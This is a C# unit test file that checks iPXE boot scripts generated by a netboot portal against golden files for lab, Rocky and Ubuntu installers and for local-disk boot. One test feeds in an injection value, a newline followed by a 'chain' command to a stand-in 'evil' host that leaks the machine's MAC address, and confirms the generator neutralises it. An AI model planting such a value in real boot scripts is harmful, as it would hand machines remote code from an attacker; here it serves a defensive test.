using Portal.Netboot.Inputs;
using Portal.Netboot.Ipxe;
using Portal.Netboot.Templates;

namespace Portal.Netboot.Tests.Ipxe;

public sealed class BootScriptGoldenTests
{
    [Fact]
    public void BootstrapChainsToTheMachineScriptWithWhatTheFirmwareKnows() =>
        Golden.Matches("bootstrap.ipxe", BootScripts.Bootstrap(Samples.Urls));

    [Fact]
    public void LabInstallerOnBiosLoadsKernelAndInitrdWithConfigAndEventsUrls() =>
        Golden.Matches("installer-lab-bios.ipxe", BootScripts.Installer(Samples.Lab, TemplateSet.Builtin));

    [Fact]
    public void LabInstallerOnUefiNamesTheInitrdOnTheKernelCommandLine() =>
        Golden.Matches("installer-lab-uefi.ipxe", BootScripts.Installer(Samples.Context(BuiltinProfiles.LabInstaller, Samples.UefiMachine), TemplateSet.Builtin));

    [Fact]
    public void RockyInstallerOnBiosPointsAnacondaAtTheKickstart() =>
        Golden.Matches("installer-rocky-bios.ipxe", BootScripts.Installer(Samples.Context(BuiltinProfiles.Rocky9), TemplateSet.Builtin));

    [Fact]
    public void RockyInstallerOnUefiPointsAnacondaAtTheKickstart() =>
        Golden.Matches("installer-rocky-uefi.ipxe", BootScripts.Installer(Samples.Context(BuiltinProfiles.Rocky9, Samples.UefiMachine), TemplateSet.Builtin));

    [Fact]
    public void UbuntuInstallerOnUefiPointsSubiquityAtTheNoCloudSeed() =>
        Golden.Matches("installer-ubuntu-uefi.ipxe", BootScripts.Installer(Samples.Context(BuiltinProfiles.Ubuntu2404, Samples.UefiMachine), TemplateSet.Builtin));

    [Fact]
    public void FirmwareReportedPlatformWinsOverTheRecordedBootMode() =>
        Assert.Equal(
            BootScripts.Installer(Samples.Context(BuiltinProfiles.LabInstaller, Samples.UefiMachine), TemplateSet.Builtin),
            BootScripts.Installer(Samples.Lab, TemplateSet.Builtin, firmware: BootMode.Uefi));

    [Fact]
    public void LocalDiskExitsToTheNextBootDeviceAndSaysWhy() =>
        Golden.Matches("local-disk.ipxe", BootScripts.LocalDisk("machine 42 is Deployed"));

    [Fact]
    public void LocalDiskReasonCannotAddIpxeCommands()
    {
        var script = BootScripts.LocalDisk("unknown\nchain http://evil/${net0/mac}");
        Assert.Equal(4, script.TrimEnd('\n').Split('\n').Length);
        Assert.DoesNotContain("${", script);
        Assert.StartsWith("#!ipxe\n", script);
    }
}
